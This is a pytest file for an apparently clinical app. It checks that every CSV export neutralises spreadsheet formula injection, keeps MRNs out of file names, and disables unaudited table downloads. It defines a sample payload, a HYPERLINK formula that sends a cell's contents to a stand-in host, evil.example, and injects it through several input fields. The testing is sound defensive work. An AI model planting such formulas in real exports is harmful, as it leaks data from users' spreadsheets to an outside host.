"""Output injection through exports (issue 17, break 6): a value typed at sign-in or into a chart, such as
``=HYPERLINK("http://evil.example/?"&A1,"open")``, must reach every CSV a user downloads as inert text.

One rule (:func:`novamind_core.domain.spreadsheet.safe_cell`, and :func:`~novamind_core.interop.spreadsheet.safe_frame`
over it) is used by every export. The sweep below finds every function in the app that writes CSV or a spreadsheet
(``DataFrame.to_csv``/``to_excel``, ``csv.writer``/``DictWriter``) and fails when one does not go through that rule;
the behavioural tests put the formula into the real exports and read the files back. Also: no export file name
carries an MRN, and the tables' own CSV download (which bypasses the audit) is switched off.
"""

from __future__ import annotations

import ast
import csv
import io
import tomllib
from datetime import UTC, date, datetime
from pathlib import Path

import pandas as pd
import pytest

from novamind_core.domain.spreadsheet import csv_text, safe_cell
from novamind_core.interop.spreadsheet import safe_frame
from tests.conftest import TEST_PASSWORD, register_patient

ROOT = Path(__file__).resolve().parents[2]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"open")'
WRITERS = {"to_csv", "to_excel", "writer", "DictWriter", "ExcelWriter"}
#: Names through which a function applies the one rule (directly or via the outcome exports' thin wrappers).
SAFE_NAMES = {"safe_cell", "safe_row", "safe_frame", "csv_text", "neutralise", "_cell"}


def _app_files() -> list[Path]:
    return [ROOT / "app.py", *sorted((ROOT / "pages").rglob("*.py")), *sorted((ROOT / "components").rglob("*.py")),
            *sorted((ROOT / "novamind_core").rglob("*.py"))]


def _writers() -> dict[str, set[str]]:
    """``{"path:function": names it uses}`` for every function that writes CSV/spreadsheet output."""
    found: dict[str, set[str]] = {}
    for path in _app_files():
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for fn in ast.walk(tree):
            if not isinstance(fn, ast.FunctionDef | ast.AsyncFunctionDef):
                continue
            calls = [n for n in ast.walk(fn) if isinstance(n, ast.Call)]
            writes = False
            for call in calls:
                f = call.func
                name = f.attr if isinstance(f, ast.Attribute) else f.id if isinstance(f, ast.Name) else ""
                owner = f.value.id if isinstance(f, ast.Attribute) and isinstance(f.value, ast.Name) else ""
                if name in ("to_csv", "to_excel") or (name in ("writer", "DictWriter") and owner == "csv") \
                        or name == "ExcelWriter":
                    writes = True
            if writes:
                used = {n.id for n in ast.walk(fn) if isinstance(n, ast.Name)} | \
                       {n.attr for n in ast.walk(fn) if isinstance(n, ast.Attribute)}
                found[f"{path.relative_to(ROOT)}:{fn.name}"] = used
    return found


def test_every_function_that_writes_a_csv_or_spreadsheet_neutralises_formulae():
    writers = _writers()
    assert len(writers) >= 6, f"the sweep found too few exporters to be looking in the right place: {writers}"
    unsafe = sorted(where for where, used in writers.items() if not used & SAFE_NAMES)
    assert unsafe == [], f"these functions write CSV without safe_cell/safe_frame/csv_text: {unsafe}"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n"])
def test_each_formula_start_comes_out_as_text_and_numbers_stay_numbers(start):
    assert safe_cell(start + "1+1") == "'" + start + "1+1"
    assert safe_cell(-3) == -3 and safe_cell(2.5) == 2.5 and safe_cell(None) is None and safe_cell("a=b") == "a=b"
    frame = safe_frame(pd.DataFrame({"text": [start + "cmd", "plain", None], "dose_mg": [-1.0, 50.0, 0.0]}))
    assert frame["text"].tolist()[:2] == ["'" + start + "cmd", "plain"]
    assert frame["dose_mg"].tolist() == [-1.0, 50.0, 0.0]


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def _no_live_formula(text: str) -> None:
    cells = _cells(text)
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], cells
    assert any(c.lower().startswith("'=hyperlink") for c in cells), "the typed value should be there, as text"


def test_a_username_typed_at_sign_in_reaches_the_admins_audit_csv_as_text(services):
    from novamind_core.services.base import SYSTEM_USER

    services.users.create(SYSTEM_USER, "audit.admin", "Audit Admin", "admin", TEST_PASSWORD)
    admin = services.users.get_by_username("audit.admin")
    with pytest.raises(Exception, match="wrong username or password"):
        services.users.authenticate(FORMULA, "not the password")
    _no_live_formula(services.admin.audit_csv(admin).decode("utf-8"))


def test_a_medication_reason_reaches_the_chart_csv_as_text():
    from components.shared.export import chart_csv
    from novamind_core.domain.medications import ChangeKind, Frequency, MedicationOrder

    order = MedicationOrder(1, 7, "sertraline", 50.0, Frequency.DAILY, date(2026, 1, 5), None, ChangeKind.START,
                            start_reason=FORMULA)
    _no_live_formula(chart_csv([], [order]))


def test_a_patient_name_reaches_the_caseload_csv_as_text_and_the_file_is_named_by_date(services, clinician):
    register_patient(services, clinician, mrn="NM-777001", given=FORMULA, family="Quux")
    export = services.charts.caseload_csv(clinician)
    text = export.content.decode("utf-8")
    _no_live_formula(text)
    assert export.n_patients == 1 and "NM-777001" not in export.filename
    assert export.filename == f"novamind-caseload-{services.context.today().isoformat()}.csv"


def test_the_caseload_csv_is_audited_once_without_the_search_text(services, clinician):
    register_patient(services, clinician, mrn="NM-777002")
    admin = _system_admin(services)
    services.charts.caseload_csv(clinician, search="NM-777002")
    rows = services.audit.query(admin, action="export.csv")
    assert [r.detail.startswith("caseload export: rows=1 total=1") for r in rows] == [True]
    assert "NM-777002" not in rows[0].detail and rows[0].username == clinician.username


def _system_admin(services):  # type: ignore[no-untyped-def]
    from novamind_core.services.base import SYSTEM_USER

    if services.users.get_by_username("export.admin") is None:
        services.users.create(SYSTEM_USER, "export.admin", "Export Admin", "admin", TEST_PASSWORD)
    return services.users.get_by_username("export.admin")


def test_the_one_csv_writer_neutralises_header_and_cells():
    text = csv_text(["=bad header", "dose_mg"], [["@SUM(1)", -5]])
    assert _cells(text) == ["'=bad header", "dose_mg", "'@SUM(1)", "-5"]


def test_no_download_file_name_is_built_from_an_mrn():
    """Export file names land in Downloads folders, browser history and mail: dates and kinds only, never an MRN."""
    offenders = []
    for path in [ROOT / "app.py", *(ROOT / "pages").rglob("*.py"), *(ROOT / "components").rglob("*.py")]:
        tree = ast.parse(path.read_text(encoding="utf-8"))
        for node in ast.walk(tree):
            if not isinstance(node, ast.JoinedStr):
                continue
            literal = "".join(v.value for v in node.values if isinstance(v, ast.Constant) and isinstance(v.value, str))
            names = {n.id for n in ast.walk(node) if isinstance(n, ast.Name)} | \
                    {n.attr for n in ast.walk(node) if isinstance(n, ast.Attribute)}
            if "mrn" in names and ("novamind-" in literal or any(literal.endswith(e) for e in
                                                                 (".csv", ".pdf", ".html", ".json", ".xlsx"))):
                offenders.append(f"{path.relative_to(ROOT)}:{node.lineno}")
        for call in (n for n in ast.walk(tree) if isinstance(n, ast.Call)):
            f = call.func
            if isinstance(f, ast.Attribute) and f.attr == "download_button":
                name_arg = call.args[2] if len(call.args) > 2 else next(
                    (k.value for k in call.keywords if k.arg == "file_name"), None)
                if name_arg is not None and any(isinstance(n, ast.Attribute | ast.Name) and "mrn" in
                                                getattr(n, "attr", getattr(n, "id", "")) for n in ast.walk(name_arg)):
                    offenders.append(f"{path.relative_to(ROOT)}:{call.lineno}")
    assert offenders == []


def test_export_file_stems_carry_the_kind_and_time_only():
    from components.shared.export import export_file_stem

    assert export_file_stem("chart", datetime(2026, 3, 1, 9, 5, tzinfo=UTC)) == "novamind-chart-2026-03-01-0905"
    assert export_file_stem("NM-100001/../x", datetime(2026, 3, 1, 9, 5)) == "novamind-nm-100001----x-2026-03-01-0905"


def test_the_tables_own_csv_download_is_switched_off_so_exports_go_through_the_audited_path():
    """A table's toolbar "Download as CSV" would hand the caseload to the browser with no audit event."""
    import streamlit.config as config

    settings = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text(encoding="utf-8"))
    assert settings["client"]["disableDataExport"] is True
    assert "client.disableDataExport" in config._config_options_template  # an option this Streamlit knows
